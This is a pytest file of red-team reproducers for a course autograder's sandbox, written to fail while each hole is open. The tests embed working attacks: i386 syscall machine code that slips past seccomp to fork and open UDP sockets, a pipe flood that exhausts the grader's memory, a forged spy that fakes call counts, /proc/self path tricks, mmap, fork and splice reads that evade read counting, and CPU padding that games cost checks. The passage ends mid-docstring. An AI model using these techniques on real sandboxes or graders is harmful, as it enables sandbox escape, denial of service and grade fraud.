"""Red-team reproducers: attacks on trusted grading that got through, each with the safe behaviour.

Each test plays a submission that knows the course's source. It is written so that it fails while
the hole is open and passes once it is closed; the docstring says what the attack gains.
(``tests/test_grading_adversarial.py`` holds the attacks that were already blocked.)
"""

from __future__ import annotations

import contextlib
import errno
import importlib
import itertools
import os
import platform
import re
import sys
import time

import pytest

from bpe_ref.course.checks.core import CheckFailed, GradingStopped, LearnerError
from bpe_ref.course.notebooks import lab_names
from bpe_ref.course.trusted.autograde import grade_cells
from bpe_ref.course.trusted.sandbox import Policy, RemoteFunction, Sandbox
from sampling import EXHAUSTIVE, drawn, one_of, skip_unless_drawn, skip_unless_lab_drawn

EVERY_LAB_NUMBER = [lab[:2] for lab in lab_names()]  # the labs a run takes are drawn among all of them (drawn_labs)

pytestmark = pytest.mark.slow


def confined(box: Sandbox) -> bool:
    return any(line.startswith("Landlock") for line in box.isolation) and any(
        line.startswith("seccomp") for line in box.isolation)


def code_cell(cell_id: str, source: str, nbgrader: dict | None = None) -> dict:
    return {"cell_type": "code", "id": cell_id, "metadata": {"nbgrader": nbgrader} if nbgrader else {},
            "source": source, "execution_count": None, "outputs": []}


def graded_cell(grade_id: str, points: float) -> dict:
    return code_cell(grade_id, "", {"grade": True, "solution": False, "locked": True, "grade_id": grade_id, "points": points})


def rss_mib() -> int:
    with open("/proc/self/status") as status:
        return int(status.read().split("VmRSS:")[1].split()[0]) // 1024


# ---- 1. the seccomp filter lets every 32-bit syscall through ------------------------------------

I386_SYSCALLS = '''
import ctypes, mmap, os
# push rbx; eax, ebx, ecx, edx = args[0..3]; int 0x80; pop rbx; ret: a syscall of the i386 table
code = bytes([0x53, 0x8b, 0x07, 0x8b, 0x5f, 0x04, 0x8b, 0x4f, 0x08, 0x8b, 0x57, 0x0c, 0xcd, 0x80, 0x5b, 0xc3])
page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(ctypes.addressof(ctypes.c_char.from_buffer(page)))

def sys32(number, a=0, b=0, c=0):
    args = (ctypes.c_uint32 * 4)(number, a, b, c)
    return call(ctypes.addressof(args))

child = sys32(2)          # fork (i386 number 2)
if child == 0:
    sys32(66)             # setsid: out of the process group the grader kills; then it could live on
    os._exit(0)
if child > 0:
    os.waitpid(child, 0)
udp = sys32(359, 2, 2, 0)  # socket(AF_INET, SOCK_DGRAM, 0): Landlock does not restrict UDP
print("fork", child, "udp", udp)
'''


@pytest.mark.skipif(platform.machine() != "x86_64" or not sys.platform.startswith("linux"), reason="i386 syscalls are an x86_64 matter")
def test_32_bit_syscalls_cannot_fork_or_open_network_sockets():
    """``int 0x80`` reaches the kernel's i386 syscall table (IA32 emulation is on in most x86_64
    kernels). The filter allowed every syscall of another architecture, so the worker could fork
    (a child that calls ``setsid`` outlives the grader's ``killpg``: a process that lingers through
    the rest of the batch, or a fork bomb, since no RLIMIT_NPROC is set) and open UDP sockets
    (network access). Safe: a syscall of another architecture is refused like any other."""
    with Sandbox(Policy(cell_timeout=10)) as box:
        if not confined(box):
            pytest.skip(f"no Landlock or seccomp here ({'; '.join(box.isolation)})")
        run = box.run_cell(I386_SYSCALLS, "i386")
    assert run.ok, run
    words = run.stdout.split()
    fork, udp = int(words[1]), int(words[3])
    assert fork < 0, f"an i386 fork() succeeded in the worker (child {fork})"
    assert udp < 0, "an i386 socket(AF_INET, SOCK_DGRAM) succeeded in the worker"


# ---- 2. the notebook's time budget is not a budget -----------------------------------------------

SLOW_BUT_CORRECT_COUNT_PAIRS = '''
import time

def count_pairs(word_counts):
    time.sleep(0.5)           # just under the time limit of one call, at every call
    counts = {}
    for word, frequency in word_counts.items():
        for pair in zip(word, word[1:]):
            counts[pair] = counts.get(pair, 0) + frequency
    return counts
'''


def test_learner_cells_count_against_the_notebook_budget():
    """Every learner cell gets ``cell_timeout`` seconds, but the notebook's ``total_timeout`` was
    checked only before test cells: a notebook of N cells that each sleep just under the limit
    (and whose timeouts make the worker restart and replay the cells before) held the batch for
    N x 30 s, hours for a few hundred cells, and every student after it waited. Safe: once the
    notebook's budget is spent, no more of its code runs. Cells that sleep spend no CPU time: the budget's backstop stops
    them, ``wall_factor`` times its CPU seconds of wall time (1 here)."""
    # 40 cells: 36 s where the budget is not kept, so the bound below (3 s and 12 s of slack for a worker started on a busy
    # machine: 7 s of slack failed honest runs at load 20) still fails it.
    cells = [code_cell(f"slow{i}", "import time\ntime.sleep(0.9)") for i in range(40)]
    cells.append(graded_cell("task1_count_pairs", 1))
    start = time.monotonic()
    record = grade_cells(cells, "01_naive_bpe", policy=Policy(cell_timeout=1, call_timeout=1, wall_factor=1), total_seconds=3)
    took = time.monotonic() - start
    assert not record.verdicts[0].passed and "of wall-clock time (its backstop)" in record.verdicts[0].message, record.verdicts[0]
    assert took < 3 + 12, f"grading took {took:.1f} s with a budget of 3 s"


def test_cells_that_spend_the_notebooks_cpu_seconds_leave_the_rest_unrun():
    """The notebook's budget is CPU time, its grader's and its code's: 40 cells that each spend 0.3 s of CPU time (12 s in
    all) against a budget of 3 s, with a backstop far away: the cells past the budget are not run, nor the test cell."""
    spend = "import time\nstart = time.thread_time()\nwhile time.thread_time() - start < 0.3:\n    pass"
    cells = [code_cell(f"busy{i}", spend) for i in range(40)] + [graded_cell("task1_count_pairs", 1)]
    record = grade_cells(cells, "01_naive_bpe", policy=Policy(cell_timeout=1, call_timeout=1, wall_factor=100), total_seconds=3)
    skipped = [cell for cell in cells[:-1] if any(output.get("ename") == "CellSkipped" for output in cell.get("outputs", []))]
    assert len(skipped) >= 40 - 12, f"{40 - len(skipped)} cells of 0.3 s of CPU time each ran with a budget of 3 s"
    assert not record.verdicts[0].passed and "3 s of CPU time" in record.verdicts[0].message, record.verdicts[0]


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the keeper and /proc are Linux's")
def test_a_busy_machine_does_not_spend_a_notebooks_budget():
    """Issue 21: the notebook's budget (``total_timeout``, 300 s) was wall time, so on a machine busy enough an honest
    notebook lost the points of its last tasks (lab 04's solution took 162 s of wall time for 42 s of CPU at load 14).
    Here the grading shares one CPU with 4 busy processes of the test's: 6 cells of 0.25 s of CPU time, then the test
    cell, take more wall time than the budget's 4 s (some 7.5 s: a fifth of a CPU), and are all run and graded. The
    budget counts the grading process's CPU time too (the graders' import, the worker's start, any thread of the test
    process): about 1.8 s in all on a quiet machine, and with a budget of 3 s a clean-clone CI skipped a cell once."""
    import subprocess

    spend = "import time\nstart = time.thread_time()\nwhile time.thread_time() - start < 0.25:\n    pass"
    cells = [code_cell("task1_count_pairs_solution", SLOW_BUT_CORRECT_COUNT_PAIRS.replace("time.sleep(0.5)", "pass")),
             *(code_cell(f"busy{i}", spend) for i in range(6)), graded_cell("task1_count_pairs", 1)]
    one_cpu = {min(os.sched_getaffinity(0))}
    hogs = [subprocess.Popen([sys.executable, "-c", "while True: pass"], start_new_session=True) for _ in range(4)]
    before = os.sched_getaffinity(0)
    try:
        for pid in (0, *(hog.pid for hog in hogs)):  # the test, the grading's process, and the worker it starts
            os.sched_setaffinity(pid, one_cpu)
        start = time.monotonic()
        record = grade_cells(cells, "01_naive_bpe", policy=Policy(cell_timeout=5, call_timeout=5), total_seconds=4)
        took = time.monotonic() - start
    finally:
        os.sched_setaffinity(0, before)
        for hog in hogs:
            hog.kill()
            hog.wait()
    assert took > 4, f"grading took {took:.1f} s: the machine was not busy for it, nothing was shown"
    assert not any(output.get("ename") == "CellSkipped" for cell in cells for output in cell.get("outputs", [])), cells
    assert record.verdicts[0].passed, record.verdicts[0]


def test_a_slow_function_cannot_stretch_one_test_cell_past_the_budget():
    """The budget was only checked *before* a test cell; inside one, a property check makes up to
    ~100 calls (and hypothesis may shrink), each allowed ``call_timeout``: a correct function that
    sleeps 29 s per call held one test cell for ~1 hour. Safe: calls stop at the notebook's
    deadline, and the test cell fails (it was not run on enough inputs)."""
    cells = [code_cell("task1_count_pairs_solution", SLOW_BUT_CORRECT_COUNT_PAIRS),
             graded_cell("task1_count_pairs_hidden", 2)]
    start = time.monotonic()
    record = grade_cells(cells, "01_naive_bpe", policy=Policy(cell_timeout=1, call_timeout=1, wall_factor=1), total_seconds=3)
    took = time.monotonic() - start
    assert took < 3 + 12, f"grading took {took:.1f} s with a budget of 3 s ({record.verdicts[0].message[:80]})"  # ~50 s unkept
    assert not record.verdicts[0].passed


# ---- 3. the trusted side's memory: a flood of lines, and amplification of a large reply ------------

FLOOD = '''
import os, threading, time
reply_fd = None
for fd in range(3, 32):              # the protocol's reply pipe: the one a write succeeds on
    try:
        os.write(fd, b"\\n")
        reply_fd = fd
        break
    except OSError:
        pass
line = b"x" * (2**20 - 1) + b"\\n"   # 1 MiB, not JSON: the grader's reader thread queues it

def flood():
    time.sleep(0.5)                  # after this cell's reply has gone
    for _ in range(768):             # 768 MiB here; an attack would never stop
        os.write(reply_fd, line)

threading.Thread(target=flood, daemon=True).start()
'''


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc/self/status")
def test_lines_on_the_reply_pipe_cannot_fill_the_graders_memory():
    """The trusted side's reader thread put every line from the worker in an unbounded queue, which
    is drained only while a reply is awaited. A thread of the learner's writing junk lines to the
    reply pipe (fd 4, found by trying) filled the grader's memory while the graders computed the
    reference or generated inputs: ~1 GiB per few seconds, then the OOM killer ends nbgrader and the
    rest of the batch. Safe: the reader holds a few lines at most (the pipe then blocks the
    worker), and closing the sandbox still ends the worker and the reader promptly. (Whether the
    worker's own later replies survive its junk is its own business: they may be garbled.)"""
    with Sandbox(Policy(cell_timeout=30)) as box:
        before = rss_mib()
        run = box.run_cell(FLOOD, "flood")
        assert run.ok, run
        time.sleep(4)  # the graders at work, not reading
        grew = rss_mib() - before
        assert grew < 200, f"the grading process grew by {grew} MiB while the worker wrote junk lines"
        start = time.monotonic()
        box.close()
        assert time.monotonic() - start < 10


def test_a_reply_far_larger_than_any_lab_needs_is_refused_unread():
    """A reply may be 64 MiB, and parsing it costs ~90 times that in the grader (8 MiB of ``[],``
    measured 740 MiB: ``json.loads``, then :func:`decode`, :func:`plain` and :func:`same` each build
    the value again): ~6 GiB for one call, enough to have the OOM killer end the batch on an
    instructor's laptop. The largest honest reply of any lab is ~130 KB (the pretoken counts of
    corpus.en sent back). Safe: a reply of a few MiB is refused before it is parsed."""
    with Sandbox(Policy(cell_timeout=30, call_timeout=30)) as box:
        assert box.run_cell("def big(n):\n    return [[]] * n", "big").ok
        with pytest.raises((GradingStopped, LearnerError)):
            RemoteFunction(box, "big")(8 * 2**20 // 3)  # 8 MiB of "[]," on the wire


# ---- 4. the watched calls of lab 02 are reported by the learner's own process ----------------------

FORGED_SPY = '''
import sys

_worker = sys.modules["__main__"]     # the worker loop's module then (the notebook's now: section 19)
_watched = {}

def _not_watching(function, calls):   # replaces the worker's _spy: keep the list, wrap nothing
    _watched[function.__name__] = calls
    return function

_worker._spy = _not_watching


def train(pretoken_counts, num_merges):
    merges = train_naive(pretoken_counts, num_merges)   # V1: recounts all pairs at every merge
    if _watched:                                        # report what V2 would have done
        _watched["count_pairs"].append(len(pretoken_counts))
        words = [split_into_bytes(pretoken) for pretoken in pretoken_counts if pretoken]
        for left, right in merges:
            for i, word in enumerate(words):
                if left in word and right in word:
                    _watched["merge_and_update"].append(len(word))
                    words[i] = merge_word(word, (left, right))
        _watched.clear()
    return merges
'''


def test_a_recounting_trainer_cannot_forge_the_watched_calls():
    """Task 3 of lab 02 (4 points) asks for the incremental trainer, and the grader once told V2 from
    V1 by the calls of ``count_pairs`` and ``merge_and_update`` the worker reported ("spy"). Those
    counts came from the learner's process, which can replace the worker's ``_spy`` and report what
    V2 would have called: lab 01's recounting trainer passed. Safe: the check is the CPU time of the
    worker's process, read from ``/proc`` on the trusted side, as the merges grow on a corpus where
    each merge changes one word (:func:`bpe_ref.course.checks.lab02_incremental.verify_incremental_updates`);
    whatever the worker reports, recounting costs a pass over every pair per merge."""
    from test_grading_adversarial import solution_sources  # the lab's setup cell, as released

    graders = importlib.import_module("bpe_ref.course.checks.lab02_incremental")
    setup = next(cell for cell in _release_cells("02_incremental") if cell["id"] == "setup")
    sources = solution_sources("02_incremental")
    with Sandbox(Policy(cell_timeout=30, call_timeout=60, provided=graders.PROVIDED)) as box:
        for name, code in (("setup", "".join(setup["source"])),
                           ("t1", sources["task1_pair_count_changes_solution"]),
                           ("t2", sources["task2_merge_and_update_solution"]),
                           ("t3", FORGED_SPY)):
            assert box.run_cell(code, name).ok, name
        with pytest.raises(CheckFailed):
            graders.check_train(RemoteFunction(box, "train"))
        with pytest.raises(CheckFailed):
            graders.check_train_properties(RemoteFunction(box, "train"))


def _release_cells(lab: str) -> list[dict]:
    from bpe_ref.course.notebooks import read_notebook_json, release_notebook

    return read_notebook_json(release_notebook(lab))["cells"]



# ---- 5. the keeper's own view of /proc, and its fds -------------------------------------------------

PROC_SELF_SPELLED_OTHERWISE = '''
import os
fd = os.open("/etc/passwd", os.O_PATH)  # Landlock does not check O_PATH; opening it for reading is refused
refused = 0
for path in (f"/proc//self/fd/{fd}", f"/proc/./self/fd/{fd}", f"//proc/self/fd/{fd}"):
    try:
        os.open(path, os.O_RDONLY)
    except PermissionError:
        refused += 1
os.symlink(f"/proc/self/fd/{fd}", "link")
try:
    os.open("link", os.O_RDONLY)
except PermissionError:
    refused += 1
os.unlink("link")
os.chdir("/proc")
try:
    os.open(f"self/fd/{fd}", os.O_RDONLY)
except PermissionError:
    refused += 1
print(refused)
'''


def test_a_refused_open_through_proc_self_spelled_otherwise_is_counted():
    """The keeper resolves the path of an open with ``realpath``, in its own process: it rewrote
    ``/proc/self`` to the caller's only when the path began with it, so ``/proc//self/fd/N`` (or
    ``/proc/./self``, a relative ``self/fd/N`` from /proc, a link in the scratch folder) was the
    keeper's fd N. An fd opened ``O_PATH`` on any file outside (Landlock does not check ``O_PATH``)
    then opened through it was refused by Landlock and counted by no one: a refused read the
    review never saw. Safe: /proc/self is the caller's however it is reached."""
    with Sandbox(Policy(cell_timeout=10)) as box:
        if not confined(box) or not any("opens Landlock refuses" in line for line in box.isolation):
            pytest.skip(f"the keeper does not watch opens here ({'; '.join(box.isolation)})")
        run = box.run_cell(PROC_SELF_SPELLED_OTHERWISE, "proc_self")
        box.close()
        report = box.behaviour()
    assert run.ok and run.stdout.split() == ["5"], run
    assert report["refused_files"].get("read /etc/passwd") == 5, report


CONNECTS_ON_A_PIPE = '''
import ctypes, os, socket
listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
listener.bind("listener.sock")
listener.listen(1)
address = socket.AF_UNIX.to_bytes(2, "little") + os.path.abspath("listener.sock").encode() + b"\\0"
buffer = ctypes.create_string_buffer(address, len(address))
libc = ctypes.CDLL(None, use_errno=True)
read_end, write_end = os.pipe()
errors = set()
for _ in range(300):
    libc.connect(read_end, buffer, len(address))  # a pipe, not a socket: the keeper took a copy and kept it
    errors.add(ctypes.get_errno())
print(*sorted(errors))
'''

CONNECT_FROM_A_THREAD = '''
import socket, threading
listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
listener.bind("listener.sock")
listener.listen(4)
answers = []
def connect():
    try:
        socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect("listener.sock")
        answers.append("connected")
    except OSError as error:
        answers.append(repr(error))
thread = threading.Thread(target=connect)
thread.start()
thread.join()
print(*answers)
'''


def _keeps_connects(box: Sandbox) -> bool:
    return confined(box) and any("connect() made by the keeper" in line for line in box.isolation)


def _fds(pid: int) -> int:
    import os

    return len(os.listdir(f"/proc/{pid}/fd"))


def test_a_connect_on_a_pipe_costs_the_keeper_no_fd():
    """In lab 03 the keeper makes each connect() itself, on its copy of the caller's fd
    (``pidfd_getfd``). On a pipe or a file that copy was never closed (``socket(fileno=)`` refused
    it before the ``with``): 20 000 such calls, 2 s, ran the keeper out of fds, and then it could not
    list /proc (the processes it must count and kill went unseen: a report of no processes, one
    that had left the session among them) nor open a new process's memory, and its report was lost.
    Safe: the copy is closed whatever it is, and the answer is the kernel's (ENOTSOCK)."""
    with Sandbox(Policy(cell_timeout=20, allow_processes=True)) as box:
        if not _keeps_connects(box):
            pytest.skip(f"the keeper does not make connects here ({'; '.join(box.isolation)})")
        before = _fds(box.process.pid)
        run = box.run_cell(CONNECTS_ON_A_PIPE, "connects")
        after = _fds(box.process.pid)
    assert run.ok and run.stdout.split() == ["88"], run  # ENOTSOCK, every time
    assert after - before < 20, f"the keeper holds {after - before} more fds after 300 connects on a pipe"


def test_a_thread_of_the_worker_can_connect():
    """The keeper opened a pidfd of the *calling thread* (``pidfd_open`` of a thread that is not its
    process's first is EINVAL before Linux 6.9), so every connect() from a thread failed with ESRCH:
    a pool that starts processes from a thread of its own (multiprocessing's pool repopulating with
    forkserver) broke in lab 03 though the lab allows it. Safe: the pidfd is the process's, whose
    threads share the fd table."""
    with Sandbox(Policy(cell_timeout=20, allow_processes=True)) as box:
        if not _keeps_connects(box):
            pytest.skip(f"the keeper does not make connects here ({'; '.join(box.isolation)})")
        run = box.run_cell(CONNECT_FROM_A_THREAD, "thread")
    assert run.ok and run.stdout.split() == ["connected"], run


# ---- 6. lab 03 task 1's "never the whole file": reads the worker's own count did not see ----------------

# The taught search (a guess, then buffers from it), on a copy of the whole file made otherwise than by read().
BUFFERED_SEARCH = '''
def _search(file, size, desired_num_chunks, split_tokens, buffer_size):
    chunk_size = size // desired_num_chunks
    boundaries = [0]
    for i in range(1, desired_num_chunks):
        position = max(i * chunk_size, boundaries[-1])
        found = [j for j in (whole_data.find(t, position) for t in split_tokens) if j != -1]
        boundaries.append(min(found) if found else size)
    boundaries.append(size)
    return sorted(set(boundaries))
'''

WHOLE_BY_MMAP = BUFFERED_SEARCH + '''
import io, mmap, os

def find_chunk_boundaries(path, desired_num_chunks, split_tokens, buffer_size=4096):
    global whole_data
    with open(path, "rb") as f:
        size = os.fstat(f.fileno()).st_size
        whole_data = bytes(mmap.mmap(f.fileno(), 0, prot=PROT)) if size else b""  # no read(): mapped
    return _search(io.BytesIO(whole_data), len(whole_data), desired_num_chunks, split_tokens, buffer_size)
'''

WHOLE_IN_A_CHILD = BUFFERED_SEARCH + '''
import json, os

def find_chunk_boundaries(path, desired_num_chunks, split_tokens, buffer_size=4096):
    global whole_data
    read_end, write_end = os.pipe()
    if os.fork() == 0:
        if DOUBLE and os.fork() != 0:
            os._exit(0)  # the grandchild reads, an orphan: the keeper reaps it
        with open(path, "rb") as f:
            whole_data = f.read()
        os.write(write_end, json.dumps(_search(None, len(whole_data), desired_num_chunks, split_tokens,
                                               buffer_size)).encode())
        os._exit(0)
    os.close(write_end)
    with os.fdopen(read_end, "rb") as reply:
        return json.loads(reply.read())  # the child never waited for: its reads are not the worker's
'''


WHOLE_BY_SPLICE = BUFFERED_SEARCH + '''
import os, socket

def find_chunk_boundaries(path, desired_num_chunks, split_tokens, buffer_size=4096):
    global whole_data
    read_end, write_end = os.pipe()
    here, there = socket.socketpair()
    chunks = []
    with open(path, "rb") as f:
        while os.splice(f.fileno(), write_end, 65536):  # file to pipe, pipe to socket: no read() counted
            os.splice(read_end, there.fileno(), 65536)
            chunks.append(here.recv(65536))
    whole_data = b"".join(chunks)
    return _search(None, len(whole_data), desired_num_chunks, split_tokens, buffer_size)
'''

ATTACKS = {"mmap": "PROT = mmap.PROT_READ\n" + WHOLE_BY_MMAP.replace("import io, mmap, os\n", ""),
           "mmap as code": "PROT = mmap.PROT_READ | mmap.PROT_EXEC\n" + WHOLE_BY_MMAP.replace("import io, mmap, os\n", ""),
           "fork": "DOUBLE = False\n" + WHOLE_IN_A_CHILD, "double fork": "DOUBLE = True\n" + WHOLE_IN_A_CHILD,
           "splice": WHOLE_BY_SPLICE}


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_a_whole_file_read_outside_the_workers_own_reads_loses_task_1(attack):
    """Task 1 of lab 03 (3 hidden points) says "never read the whole file", and the check counted the
    bytes the worker's process read (its ``rchar``). Two whole-file reads passed 14/14: mapping the file
    (``mmap``: no read at all, 201 bytes counted for 4 MiB), and a forked child that reads it and is never
    waited for (its reads are added to its parent's only when reaped; a double fork leaves the keeper to
    reap it). Safe: the reads of every process under the worker's keeper are counted, reaped or not
    (:func:`bpe_ref.course.trusted.measure_worker.tree_read_chars`); every mmap of a file goes by the keeper,
    which counts the bytes mapped of a grader's input (executable or not); splice, whose bytes the kernel
    does not count as read, is refused. Graded by ``grade_cells`` (autograde); self-grade runs the same
    graders in the same sandbox, so the same measure."""
    source = ("import io, mmap, os\n" if attack.startswith("mmap") else "") + ATTACKS[attack]
    setup = next(cell for cell in _release_cells("03_parallel") if cell["id"] == "setup")
    cells = [code_cell("setup", "".join(setup["source"])), code_cell("task1_find_chunk_boundaries_solution", source),
             graded_cell("task1_find_chunk_boundaries", 1), graded_cell("task1_find_chunk_boundaries_hidden", 3)]
    record = grade_cells(cells, "03_parallel")
    visible, hidden = record.verdicts[:2]
    assert not hidden.passed
    if attack == "splice":  # refused: the kernel does not count the bytes spliced as read
        assert "PermissionError" in hidden.message, hidden.message
        return
    assert visible.passed, visible.message  # a correct answer: only how it was found is wrong
    assert "measured from outside your code" in hidden.message, hidden.message
    if attack.startswith("mmap"):  # the whole file (its size drawn from the seed)
        assert re.search(r"mapped (\d+) bytes of the file's \1 ", hidden.message), hidden.message
    else:
        assert "by your process and any it started" in hidden.message, hidden.message


def test_the_taught_search_reads_a_few_buffers_and_maps_nothing_of_its_input():
    """The other side of the test above: the solution's search, graded the same way, reads some 25 KB of
    the 4 MiB file, maps none of it, and keeps its 3 points."""
    from test_grading_adversarial import solution_sources

    setup = next(cell for cell in _release_cells("03_parallel") if cell["id"] == "setup")
    solution = solution_sources("03_parallel")["task1_find_chunk_boundaries_solution"]
    cells = [code_cell("setup", "".join(setup["source"])), code_cell("task1_find_chunk_boundaries_solution", solution),
             graded_cell("task1_find_chunk_boundaries_hidden", 3)]
    hidden = grade_cells(cells, "03_parallel").verdicts[0]
    assert hidden.passed, hidden.message
    read = int(hidden.message.split("reads in buffers (")[1].split()[0])
    assert read < 100_000 and " 0 mapped" in hidden.message, hidden.message


# ---- 7. the cost per merge is measured against the learner's own one-merge run -------------------

PADDED_SHORT_RUN = '''
import time

def train(pretoken_counts, num_merges):
    start = time.process_time()
    merges = _train(pretoken_counts, num_merges)
    if num_merges == 1:  # the graders' one-merge run: spend some more CPU time, so that the long run looks cheap next to it
        spent = time.process_time() - start
        while time.process_time() - start < 8 * spent + 0.2:
            pass
    return merges
'''


def test_a_recounting_trainer_that_pads_its_one_merge_run_loses_task_3():
    """Task 3 of lab 02 (1 + 3 points) is graded by the cost per merge (:class:`bpe_ref.course.checks.measured.MeasuredMerges`):
    40 merges may cost at most 10 times the one-merge run's CPU time, both measured from outside. The learner's
    code decides what the one-merge run costs: lab 01's recounting trainer (V1, a recount per merge: 11 to 45
    times) that burnt 8 times its own cost more when ``num_merges == 1`` passed (2.4 to 3.8 times). The same
    ratio grades labs 04 and 05's task 3, and burning to a fixed floor of CPU time flattened it to 0: tried in the
    worker (``remote`` of tests/test_mistakes.py), lab 04's V4 that visits every word on each merge, each call padded
    to 8 s, passed verify_merge_cost (0.00 times); lab 05's V5 with a ``max()`` scan per merge, calls on more than
    1,000 words padded to 3 s, passed verify_merge_cost (0.00) and verify_push_cost (1.2 times the reference's, its
    corpus has 2 words). MeasuredGrowth (lab 08's tasks 2 and 3) had the same base: step 06's replay for
    backtrack_encode, which spends 0.6 s of CPU time on any pretoken of 1,000 to 1,999 bytes (the short measured
    call), passed verify_not_a_replay in the worker. Safe: both runs are bounded by the reference's CPU time on a
    corpus of the same shape, run meanwhile in the grading process (a slack plus a factor for honest constant
    factors, :data:`~bpe_ref.course.checks.measured.MERGE_FACTOR`), as well as by the ratio; a padded run only
    costs more. The tests below play the other paddings in the worker."""
    from test_grading_adversarial import solution_sources

    setup = next(cell for cell in _release_cells("02_incremental") if cell["id"] == "setup")
    sources = solution_sources("02_incremental")
    recounting = "def _train(pretoken_counts, num_merges):\n    return train_naive(pretoken_counts, num_merges)\n"
    cells = [code_cell("setup", "".join(setup["source"])),
             *(code_cell(cell, sources[cell]) for cell in ("task1_pair_count_changes_solution", "task2_merge_and_update_solution")),
             code_cell("task3_train_solution", recounting + PADDED_SHORT_RUN), graded_cell("task3_train", 1)]
    visible = grade_cells(cells, "02_incremental").verdicts[0]
    assert not visible.passed and "measured from outside your code" in visible.message, visible.message
    assert "the reference" in visible.message, visible.message  # the bound failed it, not the ratio


PADDED_TO_A_FLOOR = '''
import time

def {name}(*args):
    start = time.process_time()
    answer = _{name}(*args)
    if len(args[0]) >= {shortest}:  # the measured calls only: every one spends at least {floor} s of CPU time
        while time.process_time() - start < {floor}:
            pass
    return answer
'''


def _padded(lab: str, setup_cells: tuple[str, ...], cell: str, name: str, old: str, new: str, shortest: int, floor: float) -> str:
    """The solution's ``name`` with ``old`` replaced by ``new`` (a wrong method), its measured calls padded to ``floor``
    seconds of CPU time, after the cells it needs."""
    from test_mistakes import source_of

    source = source_of(lab, cell)
    assert old in source and f"def {name}(" in source, old
    wrong = source.replace(old, new).replace(f"def {name}(", f"def _{name}(")
    return "\n".join([*(source_of(lab, cell) for cell in setup_cells), wrong,
                      PADDED_TO_A_FLOOR.format(name=name, shortest=shortest, floor=floor)])


def _without_a_wall_limit(monkeypatch, lab: str, name: str) -> None:
    """The lab's measured calls in the worker limited by their CPU time only: on a machine loaded enough, a call
    stopped at its CPU budget (:func:`~bpe_ref.course.checks.measured.stop_at`) can reach the wall limit first; that
    fails too, but shows nothing of the bound."""
    monkeypatch.setattr(importlib.import_module(f"bpe_ref.course.checks.lab{lab}"), name, 300.0)


V4_PADDED_FLOORS = (1.2, 1.8, 3.0, 12.0)  # seconds of CPU time: the first two passed on 250 merges (under the bound of
# the runs), 3 s is over it, 12 s past where a run is stopped


# One floor a run, drawn (every one under BPE_EXHAUSTIVE=1): the same method and bound, each floor one side of it.
@pytest.mark.parametrize("floor", V4_PADDED_FLOORS if EXHAUSTIVE else (drawn("redteam: v4 padded floors", V4_PADDED_FLOORS),))
def test_in_the_worker_a_v4_that_visits_every_word_padded_to_a_floor_fails_the_cost_per_merge(at_the_first_verdict, monkeypatch, floor):
    """Lab 04's V4 that visits every word on each merge, each measured call padded to a floor of CPU time (the ratio of
    the extra merges to the one-merge run then 0): the runs are bounded by the reference's CPU time, so a one-merge run
    padded past that bound is stopped there (12 s: at about 4.5 s of CPU time, the reference's 1,500 merges about 0.9 s).
    A floor under the bound passed until now: on 250 merges the wrong method spent 1.7 s, the bound 1.95 s (the
    reference's 0.6 s), so padded to 1.2 s (or anywhere from about 1.0 to 1.9 s) both runs fit and the ratio was 0.4.
    Safe: 1,500 merges (:data:`~bpe_ref.course.checks.lab04_inverted_index.COST_MERGES`) cost the wrong method 5 times
    the reference's CPU time (4.6 s for 0.9 s, quiet; 9 s at load 6-7), 1.7 to 3 times the bound, so its long run fails at
    any floor: over the bound, or stopped past what could pass."""
    from test_mistakes import EVERY_WORD_CHECKED, V4_VISIT, remote

    from bpe_ref.course.checks.lab04_inverted_index import COST_MERGES

    _without_a_wall_limit(monkeypatch, "04_inverted_index", "COST_TIMEOUT")
    code = _padded("04_inverted_index", ("setup", "task1_index_words_solution", "task2_pairs_with_solution"),
                   "task3_train_solution", "train", V4_VISIT, EVERY_WORD_CHECKED, 1000, floor)
    with at_the_first_verdict():
        message = remote("04_inverted_index", code, "train", "verify_merge_cost")
    assert message is not None, f"padded to {floor} s, it passed"
    shape = "train(<81,922 words, each merge after the first changes at most 121>"
    if floor == max(V4_PADDED_FLOORS):  # the padded one-merge run, stopped past what could pass
        assert message.startswith(f"{shape}, 1) took more than"), message
        assert "(stopped there, measured from outside your code)" in message, message
    else:  # the long run: stopped past what could pass, or over the bound when it ends first (a quiet CI run: 4.63 s
        # of CPU time, the bound 2.79 s, where it is stopped at 4.7 s)
        assert message.startswith(f"{shape}, {COST_MERGES}) took "), message
        assert "measured from outside your code" in message, message
    # Over the bound, or, where the reference ran slower beside other work and the bound rose above the long run, by the
    # ratio of the extra merges to the padded first run (a CI run beside the Python 3.10 smoke: 4.82 s, the first run
    # 1.31 s, 2.68 times, more than 2.5), ended or stopped where that ratio could no longer pass (CI at 24d2e8c, seed
    # 640544: stopped at 8.57 s, the first run 1.52 s, the bound above that): the task is lost either way, which is
    # what this test is for.
    assert (f"{COST_MERGES} merges of a corpus of this shape" in message
            or f"the {COST_MERGES - 1} extra merges cost" in message
            or f"the {COST_MERGES - 1} extra merges may cost" in message), message


def test_in_the_worker_a_v5_with_a_max_scan_padded_to_a_floor_fails_the_cost_per_merge(at_the_first_verdict, monkeypatch):
    """Lab 05's V5 with a ``max()`` scan per merge (in C), its calls on more than 1,000 words padded to 3 s of CPU time
    (verify_push_cost's corpus has 2 words): bounded by the reference's CPU time, it fails the cost per merge."""
    from test_mistakes import V5_POP, remote

    _without_a_wall_limit(monkeypatch, "05_heap", "COST_TIMEOUT")
    code = _padded("05_heap", ("setup", "task1_heap_entry_solution", "task2_pop_best_solution"), "task3_train_solution",
                   "train", V5_POP, V5_POP + "        assert pair_counts[pair] == max(pair_counts.values())\n", 1000, 3.0)
    with at_the_first_verdict():
        message = remote("05_heap", code, "train", "verify_merge_cost")
    assert message is not None and "measured from outside your code" in message and "the reference" in message, message


def test_in_the_worker_a_replay_padded_on_short_pretokens_fails_the_growth_check(at_the_first_verdict, monkeypatch):
    """Lab 08's task 2 by step 06's replay (a pass over the pretoken per merge that applies), spending 0.6 s of CPU
